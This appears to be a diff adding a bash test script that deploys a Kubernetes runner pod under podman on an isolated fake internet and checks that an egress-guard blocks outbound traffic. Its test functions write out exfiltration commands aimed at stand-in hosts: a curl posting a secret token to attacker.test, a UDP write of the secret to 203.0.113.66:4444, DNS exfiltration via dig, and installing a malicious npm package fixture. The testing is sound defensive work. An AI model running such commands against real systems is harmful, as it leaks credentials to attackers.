@@ -1,0 +1,87 @@
+# Sourced by test/container/run.sh after the compose scenarios (issue 15): the Kubernetes runner pod of
+# deploy/kubernetes/runner-pod.yaml, run for real with `podman kube play`, on an internal podman network with the
+# same fake internet (203.0.113.0/24, no gateway out), and the compose suite's attack scenarios run in its runner
+# container. Uses run.sh's check, seen/never_seen, RECORDS_DIR, FIXTURE_DIR, images and TAG; cleans up after itself.
+
+POD_NET="egpod$$"
+POD_DIR="$WORK/pod"
+PODMAN=${PODMAN:-podman}
+POD_IMAGES=("localhost/$EGRESS_IMAGE" "localhost/$TESTBED_IMAGE")
+
+pod_cleanup() {
+  $PODMAN kube down "$POD_DIR/pod.yaml" >/dev/null 2>&1
+  $PODMAN rm -f -t 1 "egpod-internet-$TAG" "egpod-attacker-$TAG" >/dev/null 2>&1
+  $PODMAN network rm -f "$POD_NET" >/dev/null 2>&1
+  $PODMAN rmi -f "${POD_IMAGES[@]}" >/dev/null 2>&1
+}
+
+pod_stage() {
+  if ! command -v "$PODMAN" >/dev/null; then
+    fatal "podman is not installed (scripts/setup-test-host.sh installs it)"
+  fi
+  # The compose network used the same range: it must be gone before podman's bridge takes it.
+  dc down -v --remove-orphans --timeout 5 >/dev/null 2>&1
+  mkdir -p "$POD_DIR"
+  : >"$RECORDS_DIR/internet.ndjson"
+  : >"$RECORDS_DIR/attacker.ndjson"
+  $DOCKER save "$EGRESS_IMAGE" "$TESTBED_IMAGE" | $PODMAN load -q >/dev/null || fatal "podman load of the images"
+  $PODMAN network create --internal --subnet 203.0.113.0/24 "$POD_NET" >/dev/null || fatal "podman network"
+  for fixture in internet:203.0.113.10 attacker:203.0.113.66; do
+    $PODMAN run -d --name "egpod-${fixture%%:*}-$TAG" --network "$POD_NET" --ip "${fixture#*:}" \
+      -v "$FIXTURE_DIR:/fixture:ro" -v "$RECORDS_DIR:/records" "localhost/$TESTBED_IMAGE" \
+      node /src/dist/test/e2e/internet-fixture.js "/fixture/${fixture%%:*}.json" >/dev/null || fatal "podman run ${fixture%%:*}"
+  done
+  # The pod and its ConfigMap exactly as deploy/kubernetes/ has them, images and mode filled in.
+  EGRESS_IMAGE="localhost/$EGRESS_IMAGE" RUNNER_IMAGE="localhost/$TESTBED_IMAGE" EGRESS_MODE=block EGRESS_DNS_UPSTREAM=203.0.113.10 \
+    envsubst '$EGRESS_IMAGE $RUNNER_IMAGE $EGRESS_MODE $EGRESS_DNS_UPSTREAM' <"$ROOT/deploy/kubernetes/runner-pod.yaml" >"$POD_DIR/pod.yaml"
+  sed -e 's/^      github.com$/      allowed.test/' -e 's/^      registry.npmjs.org$/      registry.test/' \
+    "$ROOT/deploy/kubernetes/policy-configmap.yaml" >"$POD_DIR/configmap.yaml"
+  if ! $PODMAN kube play --network "$POD_NET" --configmap "$POD_DIR/configmap.yaml" "$POD_DIR/pod.yaml" >"$POD_DIR/play.log" 2>&1; then
+    cat "$POD_DIR/play.log" >&2
+    fatal "podman kube play"
+  fi
+  local i
+  for i in $(seq 1 60); do
+    pod_guard node -e "fetch('http://127.0.0.1:9090/healthz').then((r) => process.exit(r.ok ? 0 : 1), () => process.exit(1))" 2>/dev/null && break
+    sleep 0.5
+  done
+  # The runner has no mount for the fixture (the pod is the deployable one): its CA and packages are copied in.
+  $PODMAN cp "$FIXTURE_DIR/." "egress-runner-runner:/tmp/fixture" || fatal "podman cp fixture"
+  timing "podman pod up"
+}
+
+pod_runner() { $PODMAN exec egress-runner-runner bash -c "$1"; }
+pod_guard() { $PODMAN exec egress-runner-egress-guard "$@"; }
+POD_CURL="curl -sS --max-time 8 --cacert /tmp/fixture/ca.pem"
+
+p_ready() { pod_guard node -e "fetch('http://127.0.0.1:9090/healthz').then((r) => process.exit(r.ok ? 0 : 1), () => process.exit(1))"; }
+p_users() {
+  # The job runs as 1001 without privileges; egress-guard as 10101: the rules exempt that uid only.
+  [ "$(pod_runner 'id -u')" = 1001 ] && [ "$(pod_guard id -u)" = 10101 ] && ! pod_runner 'grep -q "^CapEff:.*[1-9a-f]" /proc/self/status'
+}
+p_allowed() { [ "$(pod_runner "$POD_CURL -o /dev/null -w '%{http_code}' https://allowed.test/pod-$TAG")" = 200 ] && sleep 0.3 && seen internet "/pod-$TAG"; }
+p_exfil() { pod_runner "$POD_CURL -d token=$SECRET https://attacker.test/pod-upload" >/dev/null 2>&1; sleep 0.3; never_seen attacker /pod-upload && never_seen attacker "$SECRET"; }
+p_raw_ip() { pod_runner "curl -sk --max-time 8 https://203.0.113.66/pod-raw" >/dev/null 2>&1; never_seen attacker /pod-raw; }
+p_dns() {
+  pod_runner "dig +tries=1 +time=3 pod1-$R1.attacker.test; dig +tries=1 +time=3 @203.0.113.10 pod2-$R1.attacker.test; dig +tcp +tries=1 +time=3 @203.0.113.10 pod3-$R1.attacker.test" >/dev/null 2>&1
+  never_seen internet "pod1-$R1" && never_seen internet "pod2-$R1" && never_seen internet "pod3-$R1"
+}
+p_udp() { pod_runner "echo pod-udp-$SECRET > /dev/udp/203.0.113.66/4444" >/dev/null 2>&1; sleep 1; never_seen attacker "pod-udp-$SECRET"; }
+p_npm() {
+  pod_runner "mkdir -p /tmp/pod-evil && cd /tmp/pod-evil && CI_SECRET=$SECRET npm install --no-save --foreground-scripts --cache /tmp/npm-cache /tmp/fixture/evil.tgz >/tmp/pod-npm.log 2>&1"
+  never_seen attacker "/preinstall?token=$SECRET"
+}
+p_events() { $PODMAN logs egress-runner-egress-guard 2>&1 | grep '"decision":"blocked"' | grep -c '"host":"attacker.test"' | grep -qv '^0$'; }
+
+pod_stage
+check "pod: egress-guard ready (its admin port answers the probe path)" p_ready
+check "pod: the runner is uid 1001 with no capabilities, egress-guard uid 10101" p_users
+check "pod: allowed.test works from the runner (transparent)" p_allowed
+check "pod: curl exfiltration to attacker.test blocked, nothing arrives" p_exfil
+check "pod: raw IP https://203.0.113.66/ blocked" p_raw_ip
+check "pod: DNS exfiltration via the pod's resolver and straight to the DNS server (UDP, TCP) never arrives" p_dns
+check "pod: UDP to 203.0.113.66:4444 dropped" p_udp
+check "pod: npm preinstall https.get never reaches attacker.test" p_npm
+check "pod: blocked decisions are events in egress-guard's log" p_events
+pod_cleanup
+timing "podman pod scenarios"
